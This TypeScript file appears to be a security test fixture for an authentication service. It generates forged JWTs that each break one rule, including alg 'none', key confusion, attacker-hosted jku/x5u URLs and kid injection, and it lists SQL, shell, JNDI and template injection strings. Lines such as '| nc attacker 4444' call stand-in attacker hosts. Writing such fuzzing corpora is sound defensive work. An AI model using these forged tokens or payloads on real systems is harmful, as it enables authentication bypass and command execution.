/**
 * Hostile corpora: forged JWTs (each differs from a valid token in exactly one way) and the injection strings
 * every string field is fed with.
 */
import { createHmac, generateKeyPairSync, hkdfSync, randomUUID, sign as rsaSign, type KeyObject } from 'node:crypto';

const b64 = (v: unknown) => Buffer.from(typeof v === 'string' ? v : JSON.stringify(v)).toString('base64url');

/** The HS256 key the auth service derives for a kid from JWT_SECRET (apps/auth/src/domain/keyring.ts). */
export function hs256KeyFor(jwtSecret: string, kid: string): Buffer {
  return Buffer.from(hkdfSync('sha256', jwtSecret, 'soma-auth-jwt-hs256', kid, 32));
}

export function signHs(header: Record<string, unknown>, claims: unknown, key: Buffer | string, hash = 'sha256'): string {
  const input = `${b64(header)}.${b64(claims)}`;
  return `${input}.${createHmac(hash, key).update(input).digest('base64url')}`;
}

function signRs(header: Record<string, unknown>, claims: unknown, key: KeyObject): string {
  const input = `${b64(header)}.${b64(claims)}`;
  return `${input}.${rsaSign('sha256', Buffer.from(input), key).toString('base64url')}`;
}

export interface JwtAttack {
  name: string;
  token: string;
}

/** alg "none" in every spelling the JOSE libraries have been fooled by. */
export const NONE_SPELLINGS = ['none', 'None', 'NONE', 'nOnE', 'NoNe', 'nonE', 'none ', ' none', 'none\u0000', ''];

/**
 * The corpus against a deployment pinned to HS256 with key `key` for `kid`. `valid()` is the control: signed
 * correctly, it must verify; every attack changes one thing.
 */
export function jwtCorpus(input: { kid: string; key: Buffer; tenant: string; issuer?: string; audience?: string; maxTokenBytes?: number }): { valid: () => string; attacks: JwtAttack[] } {
  const { kid, key, tenant } = input;
  const now = () => Math.floor(Date.now() / 1000);
  const claims = (extra: Record<string, unknown> = {}) => ({ sub: 'mallory', tenant, persona_id: 'default', scope: 'auth:admin secrets:admin consent:read retention:admin', jti: randomUUID(), iss: input.issuer ?? 'soma-auth', aud: input.audience ?? 'soma', iat: now(), nbf: now(), exp: now() + 600, ...extra });
  const header = (extra: Record<string, unknown> = {}) => ({ alg: 'HS256', kid, typ: 'JWT', ...extra });
  const valid = () => signHs(header(), claims(), key);
  const { privateKey: rsaPriv, publicKey: rsaPub } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const rsaPubPem = rsaPub.export({ type: 'spki', format: 'pem' }) as string;
  const rsaJwk = rsaPub.export({ format: 'jwk' });
  const attacker = Buffer.from('attacker-controlled-secret-of-32-bytes!!');
  const attacks: JwtAttack[] = [];
  const add = (name: string, token: string) => attacks.push({ name, token });
  const goodSig = () => valid().split('.')[2]!;

  for (const alg of NONE_SPELLINGS) {
    add(`alg ${JSON.stringify(alg)} unsigned`, `${b64({ alg, kid, typ: 'JWT' })}.${b64(claims())}.`);
    add(`alg ${JSON.stringify(alg)} with a valid signature attached`, `${b64({ alg, kid })}.${b64(claims())}.${goodSig()}`);
  }
  add('alg header missing', signHs({ kid, typ: 'JWT' }, claims(), key));
  add('alg not a string', signHs({ alg: ['HS256'], kid }, claims(), key));
  // HS/RS confusion: RS256 by an attacker key, and HS256 keyed with a public key (classic confusion).
  add('RS256 token on an HS256 deployment', signRs({ alg: 'RS256', kid, typ: 'JWT' }, claims(), rsaPriv));
  add('HS256 keyed with an RSA public key PEM', signHs(header(), claims(), rsaPubPem));
  add('HS256 keyed with the JWKS-style n of a public key', signHs(header(), claims(), String(rsaJwk.n)));
  add('HS384 with the right key', signHs(header({ alg: 'HS384' }), claims(), key, 'sha384'));
  add('HS512 with the right key', signHs(header({ alg: 'HS512' }), claims(), key, 'sha512'));
  add('ES256 claimed', `${b64(header({ alg: 'ES256' }))}.${b64(claims())}.${goodSig()}`);
  add('PS256 claimed', `${b64(header({ alg: 'PS256' }))}.${b64(claims())}.${goodSig()}`);
  // Key-carrying and key-locating headers are never honoured.
  add('embedded jwk (oct, attacker key)', signHs(header({ jwk: { kty: 'oct', k: attacker.toString('base64url') } }), claims(), attacker));
  add('embedded jwk (RSA) with RS256', signRs({ alg: 'RS256', kid, jwk: rsaJwk }, claims(), rsaPriv));
  add('jku to attacker', signHs(header({ jku: 'https://attacker.example/jwks.json' }), claims(), attacker));
  add('jku to loopback', signHs(header({ jku: 'http://127.0.0.1:20021/.well-known/jwks.json' }), claims(), key));
  add('x5u to attacker', signHs(header({ x5u: 'https://attacker.example/cert.pem' }), claims(), attacker));
  add('x5c embedded', signHs(header({ x5c: ['MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA'] }), claims(), key));
  add('crit unknown', signHs(header({ crit: ['x-soma-ext'], 'x-soma-ext': 1 }), claims(), key));
  // kid injection: path traversal, SQL, command, LDAP-ish, huge, non-string. Signed with what such a kid would yield.
  const kidInjections = [
    '../../../../../../dev/null', '/dev/null', '..%2f..%2f..%2fetc%2fpasswd', '../../../../etc/passwd\u0000',
    "' OR '1'='1", "x' UNION SELECT 'secret' --", "1; DROP TABLE audit_log; --", '$(id)', '`id`', '| nc attacker 4444',
    '*)(uid=*))(|(uid=*', 'k'.repeat(5000), '\u0000', '',
  ];
  for (const k of kidInjections) {
    add(`kid injection ${JSON.stringify(k.slice(0, 40))} (empty key)`, signHs({ alg: 'HS256', kid: k, typ: 'JWT' }, claims(), Buffer.alloc(0)));
    add(`kid injection ${JSON.stringify(k.slice(0, 40))} (attacker key)`, signHs({ alg: 'HS256', kid: k, typ: 'JWT' }, claims(), attacker));
  }
  add('kid as a number', signHs({ alg: 'HS256', kid: 1, typ: 'JWT' }, claims(), key));
  add('kid as an object', signHs({ alg: 'HS256', kid: { $ne: null }, typ: 'JWT' }, claims(), key));
  add('kid missing', signHs({ alg: 'HS256', typ: 'JWT' }, claims(), key));
  add('kid unknown but well-formed', signHs({ alg: 'HS256', kid: 'hs256-0000000000', typ: 'JWT' }, claims(), hs256KeyFor('guess', 'hs256-0000000000')));
  // Time.
  add('expired', signHs(header(), claims({ iat: now() - 7200, nbf: now() - 7200, exp: now() - 3600 }), key));
  add('exp as a string', signHs(header(), claims({ exp: String(now() + 600) }), key));
  add('exp absurdly large', signHs(header(), claims({ exp: 1e300 }), key));
  add('not yet valid (nbf)', signHs(header(), claims({ nbf: now() + 3600 }), key));
  add('issued in the future (iat)', signHs(header(), claims({ iat: now() + 3600 }), key));
  // Tampering and truncation.
  const good = valid().split('.');
  const flip = (s: string) => (s[0] === 'A' ? 'B' : 'A') + s.slice(1);
  add('signature flipped', `${good[0]}.${good[1]}.${flip(good[2]!)}`);
  add('payload swapped after signing (tenant)', `${good[0]}.${b64(claims({ tenant: 'victim' }))}.${good[2]}`);
  add('payload swapped after signing (scope)', `${good[0]}.${b64(claims({ scope: '*' }))}.${good[2]}`);
  add('header swapped after signing', `${b64(header({ typ: 'at+jwt' }))}.${good[1]}.${good[2]}`);
  add('signature missing', `${good[0]}.${good[1]}.`);
  add('signature from another secret', signHs(header(), claims(), Buffer.alloc(32, 7)));
  add('wrong issuer', signHs(header(), claims({ iss: 'evil' }), key));
  add('wrong audience', signHs(header(), claims({ aud: 'other' }), key));
  add('no sub', signHs(header(), (({ sub: _s, ...c }) => c)(claims()), key));
  add('no tenant', signHs(header(), (({ tenant: _t, ...c }) => c)(claims()), key));
  const whole = valid();
  for (const cut of [1, 10, whole.indexOf('.'), whole.indexOf('.') + 1, whole.lastIndexOf('.'), whole.length - 1]) add(`truncated at ${cut}`, whole.slice(0, cut));
  add('two parts', `${good[0]}.${good[1]}`);
  add('four parts', `${valid()}.extra`);
  add('padding in base64url', `${good[0]}=.${good[1]}.${good[2]}`);
  add('header not JSON', `${b64('{"alg":"HS256",')}.${good[1]}.${good[2]}`);
  add('payload not an object', signHs(header(), [1, 2, 3], key));
  add('payload JSON null', signHs(header(), null, key));
  add('leading space (VerifyToken only: a header value is trimmed)', ` ${valid()}`);
  add('binary garbage', Buffer.from(Array.from({ length: 64 }, (_, i) => (i * 37) % 256)).toString('latin1'));
  add('JWE-shaped (5 parts)', `${b64({ alg: 'dir', enc: 'A256GCM', kid })}..${b64('iv')}.${b64('ct')}.${b64('tag')}`);
  // Oversized: past the configured bound, and far past it.
  const max = input.maxTokenBytes ?? 8192;
  add('oversized (just past the bound)', signHs(header(), claims({ pad: 'x'.repeat(max) }), key));
  add('oversized (256 kB)', signHs(header(), claims({ pad: 'x'.repeat(256 * 1024) }), key));
  add('deeply nested claims (attacker key)', signHs(header(), claims({ nest: JSON.parse('['.repeat(2000) + ']'.repeat(2000)) }), attacker));
  add('iat absurdly far in the past with exp absurdly far ahead', signHs(header(), claims({ iat: 0, nbf: 0, exp: 8.64e15 }), key));
  return { valid, attacks };
}

/** Strings that would do harm if anything interpreted them: SQL, shell, templates, paths, control characters. */
export const INJECTION_STRINGS: string[] = [
  "'; DROP TABLE audit_log; --",
  "x' OR '1'='1",
  "1); DELETE FROM consent_records; --",
  "' UNION SELECT password FROM pg_shadow --",
  "$$; SELECT pg_sleep(5); $$",
  "\\'; COPY audit_log TO PROGRAM 'touch /tmp/soma-pwned'; --",
  '$(touch /tmp/soma-pwned)',
  '`touch /tmp/soma-pwned`',
  '; touch /tmp/soma-pwned #',
  '| touch /tmp/soma-pwned',
  '&& touch /tmp/soma-pwned',
  '> /tmp/soma-pwned',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '%00%0a%0d',
  'line\nbreak\r\ninjected: true',
  '\u001b[2J\u001b[31mred',
  '<script>alert(1)</script>',
  '{"$ne": null}',
];

/** A file whose appearance would prove a command ran. */
export const PWNED_FILE = '/tmp/soma-pwned';
